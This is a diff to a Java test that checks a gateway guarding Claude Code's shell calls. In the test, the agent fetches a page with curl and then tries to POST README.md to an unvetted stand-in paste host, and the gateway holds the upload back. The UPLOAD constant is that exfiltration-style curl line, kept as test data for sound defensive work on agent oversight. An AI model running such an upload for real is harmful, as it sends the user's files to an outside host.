@@ -22,16 +22,18 @@ import org.junit.jupiter.api.io.TempDir;
  * The flow rules with Claude Code's real binary (issue 65): its model fetches a page with {@code
  * curl} (allowed: a fetch is not sending), then uploads a file to a host nobody vetted. The
  * gateway, which remembers the session's fetch, asks; {@code claude -p} has no one to ask, so the
- * upload does not run, and the model is told the question with the earlier call. Both hooks are
- * the command hook as {@code gateway setup claude} writes it: {@code PreToolUse}, and {@code
- * PostToolUse}, whose report of the fetch the gateway keeps (its record says the agent reports).
+ * upload does not run, and the model is told the question with the earlier call. Both hooks are the
+ * command hook as {@code gateway setup claude} writes it: {@code PreToolUse}, and {@code
+ * PostToolUse} and {@code PostToolUseFailure}, whose report of the fetch (a curl with no network
+ * here: it ran and failed) the gateway keeps (its record says the agent reports).
  */
 @Tag(NpmAgent.TAG)
 class ClaudeCodeFlowTest {
 
   private static final ObjectMapper JSON = new ObjectMapper();
   private static final String FETCH = "curl -s https://notes.example.org/setup";
-  private static final String UPLOAD = "curl -s -X POST https://paste.example.com/api -d @README.md";
+  private static final String UPLOAD =
+      "curl -s -X POST https://paste.example.com/api -d @README.md";
   private static final Duration CLAUDE_LIMIT = Duration.ofSeconds(120);
 
   @TempDir Path temp;
@@ -49,7 +51,7 @@ class ClaudeCodeFlowTest {
     claude.mcpAdd(guarded.project(), claudeHome, "gw", guarded.mcpCommand());
     ObjectNode settings = JSON.createObjectNode();
     ObjectNode hooks = settings.putObject("hooks");
-    for (String event : List.of("PreToolUse", "PostToolUse")) {
+    for (String event : List.of("PreToolUse", "PostToolUse", "PostToolUseFailure")) {
       ObjectNode group = hooks.putArray(event).addObject().put("matcher", "Bash");
       ArrayNode handlers = group.putArray("hooks");
       handlers
@@ -111,7 +113,9 @@ class ClaudeCodeFlowTest {
         && !(Files.exists(kept) && Files.readString(kept).contains("\"reportsAfterTool\":true"))) {
       Thread.sleep(50); // the gateway writes its record off the decision's way
     }
-    assertThat(Files.readString(kept)).as(() -> describe(run)).contains("\"reportsAfterTool\":true");
+    assertThat(Files.readString(kept))
+        .as(() -> describe(run))
+        .contains("\"reportsAfterTool\":true");
   }
 
   private String describe(NpmAgent.Run run) {
